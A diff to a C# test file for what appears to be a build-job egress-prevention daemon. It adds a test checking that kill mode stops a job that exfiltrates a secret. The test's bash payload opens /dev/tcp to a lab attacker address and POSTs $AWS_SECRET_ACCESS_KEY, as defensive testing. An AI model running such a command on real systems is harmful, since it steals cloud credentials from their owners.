@@ -17,8 +17,8 @@ public sealed class PreventModeTests(NetworkLabFixture fixture)
 
     private NetworkLab Lab => fixture.Lab;
 
-    // The forwarder asks the lab's resolver; by default it would ask the host's, outside the lab.
-    private static DaemonSetup Prevent => new("prevent") { ExtraConfiguration = "prevent:\n  dns_servers: [198.18.0.2]\n" };
+    // DaemonProcess points the forwarder at the lab's resolver; by default it would ask the host's, outside the lab.
+    private static DaemonSetup Prevent => new("prevent");
 
     [Theory]
     [InlineData(0)]
@@ -142,6 +142,41 @@ public sealed class PreventModeTests(NetworkLabFixture fixture)
         Assert.Contains("answer: 198.18.0.10", result.StandardOutput);
         Assert.Contains("tcp answer: 198.18.0.10", result.StandardOutput);
         Assert.Empty(leaked);
+    }
+
+    [Fact]
+    public async Task In_kill_mode_a_write_straight_after_a_connect_to_an_ip_literal_leaks_in_none_of_200_trials()
+    {
+        // The case a user-space kill loses at 0 ms: bash connects to an IP and writes the secret at once. The kernel
+        // refuses the connect and kills the caller in the same instant; the daemon then kills the job.
+        const int Trials = 200;
+        await Lab.SetDelayAsync(TimeSpan.Zero);
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
+        var bytesBefore = Lab.BytesReceivedBy("evil.test");
+        await using var packets = await PacketCount.StartAsync("host 198.18.0.66 or host fd00:b5e:1ab::66");
+        var latencies = new List<double>();
+        for (var trial = 0; trial < Trials; trial++)
+        {
+            // A build step, then the attack (the kernel holds a job from its placement, a few ms after its start).
+            using var job = BuildJob.Start(Lab, """
+                sleep 0.1
+                exec 3<>/dev/tcp/198.18.0.66/80 && printf 'POST /collect HTTP/1.0\r\n\r\n%s' "$AWS_SECRET_ACCESS_KEY" >&3
+                echo survived
+                """);
+            var result = await job.WaitAsync();
+            Assert.DoesNotContain("survived", result.StandardOutput);
+            var report = await ReportAsync(daemon, job);
+            var violation = report.GetProperty("violations")[0];
+            Assert.Equal("killed", violation.GetProperty("action").GetString());
+            latencies.Add((report.GetProperty("kill").GetProperty("at").GetDateTimeOffset()
+                           - violation.GetProperty("time").GetDateTimeOffset()).TotalMilliseconds);
+        }
+
+        Assert.Empty(await packets.StopAsync());
+        Assert.Equal(bytesBefore, Lab.BytesReceivedBy("evil.test"));
+        latencies.Sort();
+        var p99 = latencies[(int)Math.Ceiling(0.99 * latencies.Count) - 1];
+        Assert.True(p99 <= 1.0, $"kill p99 {p99:F2} ms from the refused syscall (p50 {latencies[latencies.Count / 2]:F2} ms)");
     }
 
     /// <summary>The capture this test counts on sees what leaves: a query the test itself sends to the lab resolver.</summary>
